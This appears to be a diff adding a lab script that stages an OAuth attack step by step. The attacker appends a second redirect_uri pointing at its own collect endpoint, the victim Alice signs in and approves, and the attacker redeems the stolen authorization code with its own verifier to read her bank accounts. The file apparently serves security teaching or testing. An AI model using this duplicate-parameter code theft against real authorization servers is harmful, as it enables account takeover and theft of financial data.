@@ -1,0 +1,34 @@
+"""One request with two return addresses: the first is compared, the last is used."""
+
+from urllib.parse import urlencode
+
+from labs.stage import Stage, Stuck
+from labs.steps import step
+
+
+@step("attacker")
+def makes_a_link(stage: Stage) -> None:
+    """Make a link in Balance's name, with an own challenge: first Balance's return address, then the attacker's."""
+    second = urlencode({"redirect_uri": f"{stage.here.attacker}/collect"})
+    stage.onward = f"{stage.link('balance', stage.callback('balance'))}&{second}"
+
+
+@step("Alice")
+def alice_follows_the_link(stage: Stage) -> None:
+    """Follow the link, sign in at the real Bank ID as alice, and allow."""
+    if not stage.onward:
+        raise Stuck("there is no link yet")
+    stage.alice.go(stage.onward).agree()
+    stage.onward = ""
+
+
+@step("attacker")
+def spends_the_code(stage: Stage) -> None:
+    """Redeem the code that came, with the attacker's own verifier; then ask the bank."""
+    code = stage.collection.newest("code")
+    if not code:
+        raise Stuck("no code came to the attacker")
+    form = {"redirect_uri": f"{stage.here.attacker}/collect", "code_verifier": stage.kept["verifier"]}
+    token = stage.attacker.redeem(code, client_id="balance", **form)
+    if token:
+        stage.attacker.bank("GET", "/accounts", token)
